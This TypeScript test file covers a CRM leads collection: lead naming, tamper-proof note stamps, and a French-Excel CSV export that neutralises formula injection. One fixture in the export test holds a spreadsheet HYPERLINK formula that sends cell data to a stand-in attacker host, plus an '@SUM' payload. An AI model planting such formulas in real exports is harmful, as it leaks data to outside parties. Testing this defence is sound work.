// Leads a salesperson can work: a name for each lead, notes stamped with who and when, owners by
// name, and an export French Excel opens in columns, safe from formula injection (audit F10).
import type { Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { bootPayload, shutdownPayload } from './helpers/payload'
import { cleanupUsers, seedUsers, type Role, tokensFor, withName } from './helpers/fixtures'
import { callApi, uniqueEmail } from './helpers/leads'
import { cmsUrl } from '../../src/lib/urls'
import type { Lead, User } from '@vitrine/cms-client'

let payload: Payload
let users: Record<Role, User & { collection: 'users' }>
let tokens: Record<Role, string>

const consent = {
  noticeVersion: '2026-11',
  legalBasis: 'Intérêt légitime',
  at: '2026-11-30T09:00:00.000Z',
}
const createLead = (data: Partial<Lead> & { kind: Lead['kind'] }) =>
  payload.create({ collection: 'leads', data: { email: uniqueEmail(), consent, ...data } as never })

beforeAll(async () => {
  payload = await bootPayload()
  users = await seedUsers(payload)
  users.sales = await withName(payload, users.sales, 'Camille Roux')
  tokens = await tokensFor(payload, users)
})
afterAll(async () => {
  await cleanupUsers(payload, users)
  await shutdownPayload(payload)
})

describe('a lead reads as a person', () => {
  it('is titled by the person’s name and company, and its owner shows by name', async () => {
    const lead = await createLead({
      kind: 'callback',
      firstName: 'Jeanne',
      lastName: 'Martin',
      companyName: 'Atelier Dupont',
    })
    expect((lead as { fullName?: string }).fullName).toBe('Jeanne Martin — Atelier Dupont')
    const owned = await payload.update({
      collection: 'leads',
      id: lead.id,
      data: { owner: users.sales.id },
      user: users.sales,
      overrideAccess: false,
    })
    expect((owned as { ownerName?: string }).ownerName).toBe('Camille Roux')
  })

  it('a lead with no name is titled by its e-mail', async () => {
    const email = uniqueEmail('newsletter')
    const lead = await createLead({ kind: 'newsletter', email })
    expect((lead as { fullName?: string }).fullName).toBe(email)
  })
})

describe('follow-up notes', () => {
  it('are stamped with the date and the salesperson, and earlier stamps stay as they were', async () => {
    const lead = await createLead({
      kind: 'contact',
      firstName: 'Paul',
      lastName: 'Durand',
      message: 'Bonjour.',
    })
    const before = Date.now()
    const first = await payload.update({
      collection: 'leads',
      id: lead.id,
      data: { notes: [{ text: 'Appelé, rappeler lundi.' }] },
      user: users.sales,
      overrideAccess: false,
    })
    const note = first.notes?.[0] as { at?: string; by?: string; id?: string }
    expect(note.by).toBe('Camille Roux')
    expect(new Date(note.at!).getTime()).toBeGreaterThanOrEqual(before - 1000)

    // The admin sends every row back (here with a forged stamp on the first one): it keeps its own.
    const second = await payload.update({
      collection: 'leads',
      id: lead.id,
      data: {
        notes: [
          { ...note, by: 'Quelqu’un d’autre', at: '2020-01-01T00:00:00.000Z' },
          { text: 'Devis envoyé.' },
        ],
      } as never,
      user: users.admin,
      overrideAccess: false,
    })
    const [kept, added] = (second.notes ?? []) as { at?: string; by?: string }[]
    expect(kept).toMatchObject({ by: 'Camille Roux', at: note.at })
    expect(added?.by).toBe('admin')
  })
})

describe('the « Exporter » file', () => {
  const exportAs = (role: Role, query: string) =>
    callApi(
      new Request(`${cmsUrl}/api/leads/export?${query}`, {
        headers: { Authorization: `JWT ${tokens[role]}` },
      }),
    )
  /** The file as French Excel splits it: BOM, then `;`-separated, quoted cells, CRLF lines. */
  const rowsOf = (text: string) =>
    text
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean)
      .map((line) =>
        line
          .slice(1, -1)
          .split('";"')
          .map((cell) => cell.replace(/""/g, '"')),
      )

  it('holds what the list shows (filter and search), French headers, labels, names, Paris dates, safe cells', async () => {
    const hostile = await createLead({
      kind: 'quote',
      firstName: 'Hélène',
      lastName: 'Bérénice',
      phone: '06 12 34 56 78',
      companyName: '=HYPERLINK("http://pirate.example/?d="&A1;"Cliquez")',
      jobRole: '@SUM(1+1)',
      message: 'Besoin d’une assistante ; deux jours « par semaine ».\nMerci.',
      status: 'contacte',
      owner: users.sales.id,
      details: { preferredSlot: 'matin', hours: 12 },
    })
    await payload.update({
      collection: 'leads',
      id: hostile.id,
      data: { notes: [{ text: '+33 rappel demandé' }] },
      user: users.sales,
      overrideAccess: false,
    })
    await createLead({ kind: 'contact', firstName: 'Hélène', lastName: 'Autre', status: 'nouveau' })
    await createLead({
      kind: 'contact',
      firstName: 'Marc',
      lastName: 'Bérénice',
      status: 'contacte',
    })

    const response = await exportAs(
      'sales',
      'where[status][equals]=contacte&search=H%C3%A9l%C3%A8ne',
    )
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(
      /attachment; filename="demandes-\d{4}-\d{2}-\d{2}\.csv"/,
    )
    const bytes = new Uint8Array(await response.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]) // UTF-8 BOM: Excel reads the accents
    const text = new TextDecoder().decode(bytes)
    const [header, ...rows] = rowsOf(text)
    expect(header).toEqual(
      expect.arrayContaining([
        'Reçue le',
        'Type',
        'État',
        'Suivi par',
        'Prénom',
        'Nom',
        'E-mail',
        'Téléphone',
        'Entreprise',
        'Fonction',
        'Message',
        'Notes',
      ]),
    )
    expect(rows).toHaveLength(1) // status filter AND first-name search, like the list
    const row = Object.fromEntries(header!.map((h, i) => [h, rows[0]![i]]))
    expect(row).toMatchObject({
      Type: 'Demande de devis',
      État: 'Contacté',
      'Suivi par': 'Camille Roux',
      Prénom: 'Hélène',
      Nom: 'Bérénice',
      Téléphone: '06 12 34 56 78',
      // OWASP CSV injection: a leading = + - @ tab or CR is made inert with a leading quote.
      Entreprise: `'=HYPERLINK("http://pirate.example/?d="&A1;"Cliquez")`,
      Fonction: "'@SUM(1+1)",
      Message: 'Besoin d’une assistante ; deux jours « par semaine ».\nMerci.',
    })
    // The form's other answers read as the form asked them, not as code names.
    expect(row['Autres réponses']).toBe(
      'Quand préférez-vous être rappelé ? : Le matin (9 h – 12 h)\nNombre d’heures : 12',
    )
    expect(row['Reçue le']).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/)
    expect(row.Notes).toMatch(
      /^'?\d{2}\/\d{2}\/\d{4} \d{2}:\d{2} — Camille Roux : \+33 rappel demandé$/,
    )
  })

  it('with no filter, exports every lead (not the first 10)', async () => {
    for (let i = 0; i < 11; i++) await createLead({ kind: 'newsletter' })
    const all = await payload.count({ collection: 'leads' })
    const [, ...rows] = rowsOf(await (await exportAs('sales', '')).text())
    expect(rows.length).toBe(all.totalDocs)
  })

  it('is refused to marketing, with a French reason', async () => {
    const response = await exportAs('editor', '')
    expect(response.status).toBe(403)
    expect(JSON.stringify(await response.json())).toMatch(/commerciaux/)
  })
})
